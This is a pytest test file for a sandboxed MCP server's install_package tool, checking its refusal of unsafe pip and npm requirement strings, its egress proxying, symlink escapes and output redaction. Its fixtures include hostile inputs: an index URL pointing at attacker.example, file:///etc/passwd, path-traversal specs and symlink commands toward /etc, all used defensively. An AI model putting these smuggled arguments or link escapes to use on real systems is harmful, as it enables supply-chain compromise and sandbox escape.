"""install_package: the requirement grammar (hypothesis), refusals, and a real install from
the package registry through the egress proxy, inside a sandbox."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp import Client
from mcp_types import ProgressNotification

from bastion.app import build_server, build_services
from bastion.config import load_config
from bastion.safety.errors import InvalidRequest
from bastion.safety.requirements import check_requirement
from tests.helpers import call, create, registry_reachable, sh

HOSTILE = [
    "--index-url http://attacker.example/simple evilpkg",
    "--index-url=http://attacker.example/simple",
    "-e .",
    "-r requirements.txt",
    "--pre requests",
    "requests --extra-index-url http://x",
    "git+https://github.com/psf/requests",
    "https://example.com/pkg-1.0.tar.gz",
    "./local-package",
    "/tmp/pkg.whl",
    "pkg @ https://example.com/pkg.whl",
    "requests; python_version < '3'",
    "requests\n--index-url http://x",
    "file:///etc/passwd",
    "",
    "x" * 300,
    # Names pip reads as a file in the current folder, whether it exists or not.
    "evil-1.0.tar.gz",
    "evil.whl",
    "evil.WHL[extra]",
    "evil[extra]==1.zip",
    "evil==1.tar.lzma",
]
# Specs npm reads as a folder or a tarball: "x@.." installs the folder "..".
NPM_HOSTILE = ["x@..", "x@.", "x@./y", "x.tgz", "x@1.tar", "x@1.TAR.GZ", "@s/x@.."]
# pip's archive suffixes (pip/_internal/utils/filetypes.py) and npm-package-arg's file patterns,
# written out here so that the property below does not check the grammar against itself.
PIP_ARCHIVES: tuple[str, ...] = (
    ".whl",
    ".zip",
    ".tar.bz2",
    ".tbz",
    ".tar.xz",
    ".txz",
    ".tlz",
    ".tar.lz",
    ".tar.lzma",
    ".tar.gz",
)
PIP_ARCHIVES += (".tgz", ".tar")
NPM_FILESPEC = re.compile(r"^(?:[.]|~[/]|[/]|[a-zA-Z]:)")
NPM_FILENAME = re.compile(r"[.](?:tgz|tar.gz|tar)$", re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_anything_but_a_requirement_is_refused(text: str) -> None:
    with pytest.raises(InvalidRequest):
        check_requirement(text, "pip")


@pytest.mark.parametrize("text", ["requests", "requests[socks]>=2.31,<3", "tomli-w==1.0.0", "zope.interface~=6.0"])
def test_plain_requirements_pass(text: str) -> None:
    assert check_requirement(text, "pip") == text


@pytest.mark.parametrize("text", ["lodash", "lodash@^4.17.21", "@types/node@20", "left-pad"])
def test_plain_npm_specs_pass(text: str) -> None:
    assert check_requirement(text, "npm") == text


@pytest.mark.parametrize(
    "text", ["git+https://x/y.git", "file:../x", "npm:lodash", "../x", "-g lodash", "a b", *NPM_HOSTILE]
)
def test_npm_refuses_urls_paths_aliases_and_options(text: str) -> None:
    with pytest.raises(InvalidRequest):
        check_requirement(text, "npm")


@given(st.text(max_size=80))
def test_whatever_passes_cannot_carry_an_option_url_or_path(text: str) -> None:
    for manager in ("pip", "npm"):
        try:
            accepted = check_requirement(text, manager)
        except InvalidRequest:
            continue
        assert not accepted.startswith("-")
        assert not any(token.startswith("-") for token in accepted.split())
        assert ":" not in accepted
        assert "\n" not in accepted
        assert "\x00" not in accepted
        assert ".." not in accepted.split("/")
        if manager == "pip":
            assert "/" not in accepted
            assert "@" not in accepted
            assert ";" not in accepted
            # pip strips trailing extras, then takes an archive-like name for a file.
            bare = re.sub(r"\[[^\]]+\]$", "", accepted)
            assert not bare.lower().endswith(PIP_ARCHIVES), accepted
        else:
            name, at, spec = accepted[1:].partition("@") if accepted.startswith("@") else accepted.partition("@")
            assert not NPM_FILENAME.search(name), accepted
            assert not (at and (NPM_FILESPEC.search(spec) or NPM_FILENAME.search(spec))), accepted


@given(st.from_regex(r"@?[a-z0-9]{1,3}(/[a-z0-9]{1,3})?@[.~/A-Za-z0-9]{1,6}(\.(tgz|tar|TAR|tar\.gz))?", fullmatch=True))
def test_npm_specs_that_npm_reads_as_files_are_refused(text: str) -> None:
    name, _, spec = text[1:].partition("@") if text.startswith("@") else text.partition("@")
    if NPM_FILESPEC.search(spec) or NPM_FILENAME.search(spec) or NPM_FILENAME.search(name):
        with pytest.raises(InvalidRequest):
            check_requirement(text, "npm")


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_hostile_requirements_are_refused_by_the_tool(client: Client) -> None:
    sandbox = await create(client)
    cases = [(text, "pip") for text in (*HOSTILE[:6], *HOSTILE[-5:])] + [(text, "npm") for text in NPM_HOSTILE]
    for text, manager in cases:
        result = await call(client, "install_package", name=text, manager=manager, sandbox_id=sandbox)
        assert result["code"] == "INVALID_REQUEST", (text, result)
        assert result["detail"] == {}, result
    listed = await sh(client, sandbox, "ls -A /workspace")
    assert listed["detail"]["stdout"] == "", "a refused install left something behind"
    host = await call(client, "install_package", name="requests", sandbox_id="default")
    assert host["code"] == "FORBIDDEN"


@pytest.mark.anyio
@pytest.mark.bwrap
@pytest.mark.network
async def test_a_real_install_through_the_proxy_then_import(client: Client, demo_config_path: Path) -> None:
    if not registry_reachable():
        pytest.skip("the package registry (pypi.org:443) is not reachable from this machine")
    sandbox = await create(client)
    before = await call(client, "execute_code", code="import tomli_w", sandbox_id=sandbox)
    assert before["detail"]["error"]["type"] == "ModuleNotFoundError"
    installed = await call(client, "install_package", name="tomli-w", sandbox_id=sandbox)
    assert installed["ok"], installed
    used = await call(client, "execute_code", code="import tomli_w\ntomli_w.dumps({'a': 1})", sandbox_id=sandbox)
    assert used["ok"], used
    assert used["detail"]["value"] == "'a = 1\\n'", used["detail"]
    shell = await call(client, "run_command", command="python -c 'import tomli_w'", sandbox_id=sandbox)
    assert shell["detail"]["exit_status"] == 0
    audit = demo_config_path.parent / "state" / "audit.jsonl"
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    egress = [r for r in records if r.get("event") == "egress" and r["sandbox"] == sandbox]
    assert any(r["domain"] == "pypi.org" and r["decision"] == "allow" for r in egress), egress
    # After the install the registry is out of reach again: through the proxy (403), or without it (no route).
    fresh = await call(client, "execute_code", code=FETCH_PYPI, sandbox_id=sandbox, context="fresh")
    assert "403" in fresh["detail"]["stdout"], fresh["detail"]
    old_context = await call(client, "execute_code", code=FETCH_PYPI, sandbox_id=sandbox)
    assert "reached" not in old_context["detail"]["stdout"]


FETCH_PYPI = (
    "import urllib.request, urllib.error\n"
    "try:\n    urllib.request.urlopen('https://pypi.org/simple/', timeout=10)\n    print('reached')\n"
    "except urllib.error.URLError as exc:\n    print(exc)"
)


@pytest.mark.anyio
@pytest.mark.bwrap
@pytest.mark.network
async def test_a_real_npm_install_then_require(client: Client) -> None:
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed on this machine (make test installs it)")
    if not registry_reachable("registry.npmjs.org"):
        pytest.skip("the npm registry (registry.npmjs.org:443) is not reachable from this machine")
    sandbox = await create(client)
    installed = await call(client, "install_package", name="left-pad@1.3.0", manager="npm", sandbox_id=sandbox)
    assert installed["ok"], installed
    code = "console.log(require('left-pad')('x', 4, '0'))"
    used = await call(client, "execute_code", code=code, language="javascript", sandbox_id=sandbox)
    assert used["detail"]["stdout"] == "000x\n", used


LOCAL_WHEEL = r"""
import os, zipfile
os.makedirs("wheels", exist_ok=True)
files = {
    "localpkg/__init__.py": "VALUE = 'from a local path'\n",
    "localpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: localpkg\nVersion: 1.0\n",
    "localpkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
with zipfile.ZipFile("wheels/localpkg-1.0-py3-none-any.whl", "w") as wheel:
    for name, text in files.items():
        wheel.writestr(name, text)
    record = "".join(f"{n},,\n" for n in [*files, "localpkg-1.0.dist-info/RECORD"])
    wheel.writestr("localpkg-1.0.dist-info/RECORD", record)
"""


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_the_sandboxs_pip_config_cannot_turn_a_name_into_a_path(demo_config_path: Path) -> None:
    """pip reads a venv's own pip.conf even with --isolated; the sandbox's venv is the agent's to
    write, so a find-links there would install a local wheel for a plain name. The index is a name
    the proxy refuses, so nothing leaves the machine: the install must fail, never find the wheel."""
    text = demo_config_path.read_text()
    demo_config_path.write_text(
        text.replace("[sandboxes.limits]", 'pip_index_url = "https://registry.test/simple"\n\n[sandboxes.limits]')
    )
    services = build_services(load_config(demo_config_path))
    try:
        async with Client(build_server(services, caller="test")) as client:
            sandbox = await create(client)
            made = await call(client, "execute_code", code=LOCAL_WHEEL, sandbox_id=sandbox)
            assert made["ok"], made
            assert made["detail"]["error"] is None, made
            config = "[global]\nno-index = true\nfind-links = /workspace/wheels\n"
            venv = await sh(client, sandbox, f"python3 -m venv .venv && printf '{config}' > .venv/pip.conf")
            assert venv["detail"]["exit_status"] == 0, venv
            installed = await call(client, "install_package", name="localpkg", sandbox_id=sandbox)
            assert installed["code"] == "OPERATION_FAILED", installed
            output = installed["detail"]["stdout"] + installed["detail"]["stderr"]
            assert "wheels" not in output, output
            assert "registry.test" in output, output
            used = await call(client, "execute_code", code="import localpkg", sandbox_id=sandbox)
            assert used["detail"]["error"]["type"] == "ModuleNotFoundError", used
    finally:
        services.close()


# Links the sandbox makes so that `.venv/bin/python` leads to the host: the folder and file exist
# on the host ("host"), or not ("missing"), absolute or climbing out with '..'.
VENV_LINKS = [
    "ln -s {host} .venv",
    "ln -s {missing} .venv",
    "ln -s /etc .venv",
    "ln -s /nonexistent-bastion-test .venv",
    "ln -s ../../../../../../../../.. .venv",
    "ln -s .. .venv",
    "mkdir .venv && ln -s {host}/bin .venv/bin",
    "mkdir .venv && ln -s {missing}/bin .venv/bin",
    "mkdir -p .venv/x && ln -s ../../.. .venv/bin",
]


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_install_package_venv_symlink_is_no_host_oracle(client: Client, tmp_path: Path) -> None:
    """Invariant: whatever link the sandbox puts at `.venv` or `.venv/bin`, leading to a host
    folder that exists or to one that does not, install_package gives the same answer
    (PATH_ESCAPE, one reason, nothing else), decided through the jail before the network is
    widened; the host folder is untouched and the sandbox keeps working.

    Before the fix the host's lexists followed the links: a host folder holding bin/python made it
    skip creating the venv (and run pip), a missing one made it try to create it.
    Does not prove the kernel never looked up the target; the jail's openat2 refuses the link itself.
    """
    host = tmp_path / "host-venv"
    (host / "bin").mkdir(parents=True)
    (host / "bin" / "python").write_text("#!/bin/sh\necho host\n")
    missing = tmp_path / "missing-venv"
    before = sorted((str(p), p.lstat().st_mtime_ns) for p in [host, *host.rglob("*")])
    sandbox = await create(client)
    answers = set()
    for link in VENV_LINKS:
        made = await sh(client, sandbox, "rm -rf .venv && " + link.format(host=host, missing=missing))
        assert made["detail"]["exit_status"] == 0, made
        result = await call(client, "install_package", name="requests", sandbox_id=sandbox)
        answers.add((result["code"], result["reason"], json.dumps(result["detail"])))
    assert answers == {
        (
            "PATH_ESCAPE",
            "/workspace/.venv/bin/python goes through a link that leaves the workspace: remove the link "
            "(or the .venv folder) and install again",
            "{}",
        )
    }
    assert sorted((str(p), p.lstat().st_mtime_ns) for p in [host, *host.rglob("*")]) == before
    assert not missing.exists()
    alive = await sh(client, sandbox, "rm -rf .venv && echo ok")
    assert alive["detail"]["stdout"] == "ok\n"


# An index the egress proxy refuses (no such registry rule): pip fails without the network, after
# a few lines of output, and prints the index URL, whose path carries something shaped like a key.
FAKE_KEY = "AKIA" + "QWERTYUIOPASDFGH"
REFUSED_INDEX = f"https://registry.test/{FAKE_KEY}/simple"


def refused_index_config(demo_config_path: Path) -> Path:
    text = demo_config_path.read_text()
    demo_config_path.write_text(
        text.replace("[sandboxes.limits]", f'pip_index_url = "{REFUSED_INDEX}"\n\n[sandboxes.limits]')
    )
    return demo_config_path


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_install_sends_progress_steps_and_redacted_output_lines(demo_config_path: Path) -> None:
    """Invariant: a client that passes a progress callback hears each step and the installer's output
    as it runs, with increasing counts, each message one cleaned, redacted line. No network: the
    index is refused by the proxy. Does not prove the rate limit (see test_progress.py)."""
    services = build_services(load_config(refused_index_config(demo_config_path)))
    updates: list[tuple[float, str]] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        updates.append((progress, message or ""))

    try:
        async with Client(build_server(services, caller="test")) as client:
            sandbox = await create(client)
            raw = await client.call_tool(
                "install_package", {"name": "tomli-w", "sandbox_id": sandbox}, progress_callback=on_progress
            )
    finally:
        services.close()
    assert raw.structured_content is not None
    assert raw.structured_content["code"] == "OPERATION_FAILED", raw.structured_content
    messages = [message for _, message in updates]
    assert messages[0] == "making the sandbox's own venv (/workspace/.venv)", messages
    assert "pip install tomli-w" in messages
    assert any("registry.test" in message for message in messages[2:]), messages
    assert FAKE_KEY not in str(updates)
    counts = [count for count, _ in updates]
    assert counts == sorted(set(counts)), "progress counts must increase"
    assert all(len(message) <= 300 and "\n" not in message for message in messages)


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_install_sends_no_progress_to_a_client_that_asked_for_none(demo_config_path: Path) -> None:
    services = build_services(load_config(refused_index_config(demo_config_path)))
    notifications: list[object] = []

    async def on_message(message: object) -> None:
        if isinstance(message, ProgressNotification):
            notifications.append(message)

    try:
        async with Client(build_server(services, caller="test"), message_handler=on_message) as client:
            sandbox = await create(client)
            result = await call(client, "install_package", name="tomli-w", sandbox_id=sandbox)
    finally:
        services.close()
    assert result["code"] == "OPERATION_FAILED", result
    assert notifications == []
